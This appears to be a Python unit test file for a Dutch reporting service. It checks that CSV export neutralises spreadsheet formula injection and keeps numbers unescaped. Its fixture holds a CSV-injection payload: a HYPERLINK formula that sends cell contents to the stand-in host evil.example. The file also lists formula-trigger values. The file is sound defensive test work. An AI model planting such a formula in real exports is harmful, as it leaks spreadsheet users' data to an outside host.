"""CSV output cannot smuggle formulas into a spreadsheet (OWASP CSV injection), and numbers stay
numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from services.rapportage.domain import feiten as f
from services.rapportage.domain import rapporten
from services.rapportage.domain.feiten import Feit, toestand_op
from services.rapportage.domain.rapporten import Rapport, Tabel
from services.rapportage.entrypoints.weergave import als_csv

T = datetime(2020, 1, 1, tzinfo=UTC)
AANVAL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def _rijen(tekst: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(tekst, newline="")))


def test_a_site_named_like_a_formula_is_written_as_text() -> None:
    data = {
        "bevoegd_gezag": "ZH",
        "gemeentecode": "0513",
        "naam": AANVAL,
        "status": "potentieel-spoed",
        "registratiedatum": "2010-02-01",
    }
    feiten = [
        Feit(1, "ZH1", 1, f.GEREGISTREERD, T, data),
        Feit(
            2,
            "ZH1",
            2,
            f.STATUS,
            T,
            {"van": "?", "naar": "onderzocht", "besluitdatum": "2010-03-01"},
        ),
        Feit(
            3,
            "ZH1",
            3,
            f.STATUS,
            T,
            {"van": "?", "naar": "ernstig-spoed", "besluitdatum": "2010-04-01"},
        ),
        Feit(
            4,
            "ZH1",
            4,
            f.RISICO,
            T,
            {"risicotype": "humaan", "vastgesteld": True, "beoordelingsdatum": "2010-04-01"},
        ),
    ]
    peildatum = date(2016, 6, 1)
    rapport = rapporten.deadlines(toestand_op(feiten, peildatum), peildatum, 4)
    kop, rij = _rijen(als_csv(rapport))
    assert rij[kop.index("naam")] == "'" + AANVAL
    assert rij[kop.index("locatieId")] == "ZH1"


def test_every_formula_character_is_escaped_but_numbers_are_not() -> None:
    waarden = ["=1+1", "+31 70", "-2+3", "@SUM(A1)", "\tx", "\rx", "gewoon", -3, -2.5, 0, None]
    rapport = Rapport("t", "t", {}, 0, {}, [Tabel("t", ["-kolom"], [[w] for w in waarden])])
    kop, *rijen = _rijen(als_csv(rapport))
    assert kop == ["'-kolom"]
    assert [r[0] for r in rijen] == [
        "'=1+1",
        "'+31 70",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "gewoon",
        "-3",
        "-2.5",
        "0",
        "",
    ]
